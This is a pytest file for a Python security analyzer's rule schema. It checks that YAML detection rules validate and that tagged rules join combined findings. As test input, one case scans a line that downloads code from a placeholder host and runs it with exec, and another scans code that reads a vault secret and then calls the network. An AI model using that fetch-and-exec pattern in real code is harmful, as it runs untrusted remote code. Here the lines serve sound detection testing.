"""The typed rule language: one schema, the loader's keys from it, combinations by tag."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from pydantic import ValidationError

from airlock.analyzer.checks import CHECKS
from airlock.analyzer.match_schema import CHECK_NAMES
from airlock.analyzer.models import Verdict
from airlock.analyzer.rule_schema import PolicySpec, RuleFile, json_schema, keys
from airlock.analyzer.ruleset import POLICY_KEYS, TOP_KEYS, load_ruleset
from airlock.analyzer.scan import scan
from airlock.rules import RULES_DIR

SHIPPED = sorted(p for p in RULES_DIR.glob("*.yaml") if p.name != "bandit.yaml")  # weights


@pytest.mark.parametrize("path", SHIPPED, ids=lambda p: p.name)
def test_every_shipped_rule_set_follows_the_typed_schema(path: Path) -> None:
    RuleFile.model_validate(yaml.safe_load(path.read_text()))


@pytest.mark.parametrize("path", SHIPPED, ids=lambda p: p.name)
def test_the_json_schema_accepts_the_shipped_rule_sets(path: Path) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    jsonschema.validate(yaml.safe_load(path.read_text()), json_schema())


RULE = {
    "id": "X-1",
    "title": "t",
    "category": "process",
    "severity": "high",
    "confidence": "high",
    "match": {"call": {"names": ["os.system"]}},
}


@pytest.mark.parametrize(
    "change",
    [
        {"colour": "red"},  # unknown key
        {"match": {"call": {"names": ["os.system"]}, "import": {"modules": ["os"]}}},  # two kinds
        {"match": {"check": "no_such_check"}},
        {"match": {"call": {"names": ["os.system"], "args": [{"postion": 0}]}}},  # typo
        {"severity": "catastrophic"},
    ],
)
def test_the_schema_rejects_what_the_loader_rejects(change: dict) -> None:
    RuleFile.model_validate({"name": "ok", "rules": [RULE]})  # control: the base rule is valid
    with pytest.raises(ValidationError):
        RuleFile.model_validate({"name": "bad", "rules": [{**RULE, **change}]})


def test_the_loader_and_the_engine_agree_with_the_schema() -> None:
    assert set(CHECKS) == CHECK_NAMES  # every named check is implemented, and only those
    assert keys(RuleFile) == TOP_KEYS
    assert keys(PolicySpec) >= POLICY_KEYS


OVERLAY = """
name: tagged
extends: default
rules:
  - id: X-VAULT-001
    title: Reads the team vault
    category: secrets
    severity: low
    confidence: high
    {tags}
    match:
      call:
        names: [vault.read]
"""
CODE = "import vault, requests\nv = vault.read('db')\nrequests.get('https://api.example.com/x')\n"


def test_a_new_rule_joins_a_combination_by_its_tag(tmp_path: Path) -> None:
    def combos(tags: str) -> set[str]:
        path = tmp_path / f"overlay{len(tags)}.yaml"
        path.write_text(OVERLAY.format(tags=tags))
        report = scan(CODE, ruleset=load_ruleset(path))
        assert "X-VAULT-001" in {f.rule_id for f in report.findings}
        return {r.text for r in report.reasons if r.text.startswith("combination:")}

    untagged = combos("")
    assert not any("secrets" in t for t in untagged)  # negative control: no tag, no combination
    tagged = combos("tags: [secret-read]")
    assert any("reads secrets or credentials" in t for t in tagged)


def test_combinations_of_the_default_set_select_by_tag() -> None:
    rs = load_ruleset("default")
    combos = {c.id: c for c in rs.policy.combinations}
    assert combos["COMBO-CODEEXEC-NETWORK"].any_tags == ("dynamic-exec",)
    exec_rules = {r.id for r in rs.rules if "dynamic-exec" in r.tags}
    assert {"AIR-EXEC-001", "AIR-EXEC-003"} <= exec_rules
    report = scan("import requests\nexec(requests.get('https://x.example/p').text)\n")
    assert report.verdict == Verdict.block
    assert any(
        r.text.startswith("combination: executes dynamically built code") for r in report.reasons
    )
